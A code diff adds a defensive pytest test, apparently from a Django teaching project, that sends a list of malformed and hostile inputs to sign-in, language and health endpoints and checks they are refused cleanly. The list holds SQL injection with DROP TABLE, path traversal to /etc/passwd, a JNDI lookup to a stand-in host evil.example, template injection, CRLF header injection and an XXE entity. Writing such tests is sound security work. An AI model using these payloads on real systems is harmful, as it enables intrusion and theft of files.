@@ -268,3 +268,48 @@ def test_production_speaks_tls_alone_and_marks_its_cookies(tmp_path: Any) -> Non
         },
         "session": ["__Host-sessionid", True, True, "Lax", "/", None],
     }
+
+
+# What strangers send
+
+
+ODD = (
+    b"", b"\x00", b"\xff\xfe", "\ud800".encode("utf-8", "surrogatepass"), b"a" * 5000, b"%", b"&&&==", b"{}", b"[]",
+    b"' OR 1=1 --", b'"; DROP TABLE accountability_employee; --', b"1e999", b"-1", b"9" * 400, b"NaN",
+    b"../../etc/passwd",
+    b"${jndi:ldap://evil.example/a}", b"{{7*7}}", b"a\r\nSet-Cookie: x=1",
+    b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
+)  # fmt: skip
+
+KINDS = (
+    "application/x-www-form-urlencoded", "application/json", "text/xml", "multipart/form-data; boundary=x",
+    "multipart/form-data", "text/plain; charset=utf-7", "application/x-www-form-urlencoded; charset=idna", "x" * 200,
+    "",
+)  # fmt: skip
+
+
+@pytest.mark.lesson(10)
+@pytest.mark.asvs("1.2.4", "2.2.1", "2.2.2", "16.5.1", "4.1.1")
+@pytest.mark.parametrize("place", ["/sign-in/", "/language/", "/healthz"])
+def test_whatever_a_stranger_sends_is_refused_in_order(place: str, db: None) -> None:
+    """In the body under any type, in each field, in the query and in cookies: no error of ours, no header of theirs."""
+    client, wrong = Client(), {}
+    client.raise_request_exception = False
+    for odd in ODD:
+        text = odd.decode("latin-1")
+        answers = [client.generic("POST", place, odd, content_type=kind) for kind in KINDS]
+        answers += [
+            client.post(place, dict.fromkeys(("username", "password", "next", "language", text or "x"), text)),
+            client.post(
+                place, {"username": [text, text], "password": [text] * 3, "next[]": text, "username[$ne]": "x"}
+            ),
+            client.generic("GET", f"{place}?next={text}&page={text}", QUERY_STRING=f"next={text}"),
+        ]
+        client.cookies[settings.SESSION_COOKIE_NAME] = "".join(sign for sign in text if sign.isalnum())
+        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "".join(sign for sign in text if sign.isalnum())
+        answers.append(client.get(place))
+        client.cookies.clear()
+        found = {answer.status_code for answer in answers} - {200, 302, 400, 403, 405, 422}
+        if found or any("x=1" in str(answer.cookies) for answer in answers):
+            wrong[odd] = found
+    assert wrong == {}
